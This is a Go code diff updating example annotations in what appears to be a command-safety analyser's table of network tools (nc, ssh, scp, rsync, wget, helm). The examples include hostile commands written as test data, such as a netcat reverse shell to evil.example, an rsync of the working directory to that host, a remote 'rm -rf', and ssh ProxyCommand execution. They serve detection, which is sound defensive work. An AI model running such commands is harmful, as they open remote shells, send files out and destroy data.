@@ -51,11 +51,11 @@ var netCommands = []Command{
 		Examples: []Example{{"kubectl --kubeconfig x get pods", "narrow"}},
 	},
 	{
-		Names: []string{"helm"}, Title: "manages charts", Flags: "debug", Values: "-n namespace kube-context", Opts: []Opt{{"post-renderer kubeconfig plugins-dir", HasArg, Executes}}, Examples: []Example{{"helm list -n x", ""}, {"helm template . --post-renderer ./x", "narrow"}},
+		Names: []string{"helm"}, Title: "manages charts", Flags: "debug", Values: "-n namespace kube-context", Opts: []Opt{{"post-renderer kubeconfig plugins-dir", HasArg, Executes}}, Examples: []Example{{"helm list -n x", ""}, {"helm template . --post-renderer ./x", "narrow helm --post-renderer>>'./x'"}},
 	},
 	{
 		Names: []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"}, Title: "opens connections", Flags: "-46bCdDFhklnNrStuUvz listen keep-open udp verbose ssl broker chat no-dns recv-only send-only", Values: "-iIMmoOpPqsTVwWxX source source-port wait idle-timeout proxy max-conns delay output hex-dump proxy-type proxy-auth", Opts: []Opt{{"-ec exec sh-exec lua-exec", HasArg, Executes}}, Operands: Words, more: hostMore,
-		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "narrow net:evil.example"}, {"nc -z localhost 80", "net:localhost"}},
+		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "net:localhost"}},
 	},
 	{
 		Names: []string{"openssl"}, Title: "does cryptography", Style: SingleDash, Flags: "nodes noout text base64 a d e x509 new batch aes-256-cbc sha256 hex pbkdf2 salt pubout modulus dates issuer subject fingerprint showcerts verify_return_error brief quiet purpose", Values: "days subj newkey k pass passin passout connect servername md iter S K iv inform outform bits",
@@ -71,13 +71,13 @@ var netCommands = []Command{
 			{"-T temp-dir partial-dir backup-dir compare-dest copy-dest link-dest", HasArg, 0}, {"early-input", HasArg, ReadsValue},
 		}, more: rsyncMore,
 		Examples: []Example{
-			{"rsync -a src/ out", "read:src/** write:out/**"}, {"rsync -e 'sh -c id' a h:b", "narrow read:a/** net:h:b"}, {"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"}, {"rsync -n a b", "ro read:a/**"},
+			{"rsync -a src/ out", "read:src/** write:out/**"}, {"rsync -e 'sh -c id' a h:b", "read:a/** net:h:b narrow rsync -e>>'sh -c id'"}, {"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"}, {"rsync -n a b", "ro read:a/**"},
 			{"rsync -azv h:/x .", "net:h:/x write:./**"},
 		},
 	},
 	{
 		Names: []string{"scp", "sftp"}, Title: "copies files over ssh", Flags: "-346ACafNOpqrRTv", Values: "-cDilPXsB", Opts: []Opt{{"-S", HasArg, Executes}, {"-F", HasArg, Unsafe}, {"-o", HasArg, 0}, {"-b", HasArg, Unsafe}, {"-J", HasArg, 0}}, more: scpMore,
-		Examples: []Example{{"scp -S ./x a h:b", "narrow read:a/** net:h:b"}, {"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/**"}, {"scp -o ProxyCommand=x a h:", "narrow read:a/** net:h:"}},
+		Examples: []Example{{"scp -S ./x a h:b", "read:a/** net:h:b narrow scp -S>>'./x'"}, {"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/**"}, {"scp -o ProxyCommand=x a h:", "read:a/** net:h: narrow scp -o>>'x'"}},
 	},
 	{
 		Names: []string{"socat"}, Title: "joins two channels", Style: NoOptions, more: opaqueMore,
@@ -86,10 +86,10 @@ var netCommands = []Command{
 	{
 		Names: []string{"ssh", "slogin", "autossh", "mosh", "sshpass"}, Title: "runs commands on another machine", Flags: "-1246AaCfGgKkMNnqsTtVvXxYy", Values: "-BbcDeiJLlmOpQRSWw", Opts: []Opt{{"-F", HasArg, Unsafe}, {"-I", HasArg, Unsafe}, {"-E", HasArg, WritesValue}, {"-o", HasArg, 0}, {"ssh", HasArg, Executes}}, Style: StopAtOperand, more: sshMore,
 		Examples: []Example{
-			{"ssh -o ProxyCommand='touch p' host", "narrow net:host"},
+			{"ssh -o ProxyCommand='touch p' host", "net:host narrow ssh -o>>'touch p'"},
 			{"ssh -oStrictHostKeyChecking=no -p 22 u@h rm -rf x", "net:u@h ssh>>'rm -rf x'"},
 			{"ssh h", "net:h"},
-			{"ssh -o PermitLocalCommand=yes -o 'LocalCommand id' h", "narrow net:h"},
+			{"ssh -o PermitLocalCommand=yes -o 'LocalCommand id' h", "net:h narrow ssh -o>>'yes' ssh -o>>'id'"},
 		},
 	},
 	{
@@ -102,7 +102,7 @@ var netCommands = []Command{
 		},
 		Operands: URLs, more: wgetMore,
 		Examples: []Example{
-			{"wget --use-askpass=./evil.sh https://u@e/", "narrow write:index.html net:https://u@e/"},
+			{"wget --use-askpass=./evil.sh https://u@e/", "net:https://u@e/ write:index.html narrow wget --use-askpass>>'./evil.sh'"},
 			{"wget -qO- https://a/b", "net:https://a/b"},
 			{"wget https://a/.bashrc", "write:.bashrc net:https://a/.bashrc"},
 			{"wget -P d https://a/b.sh", "write:d/b.sh net:https://a/b.sh"},
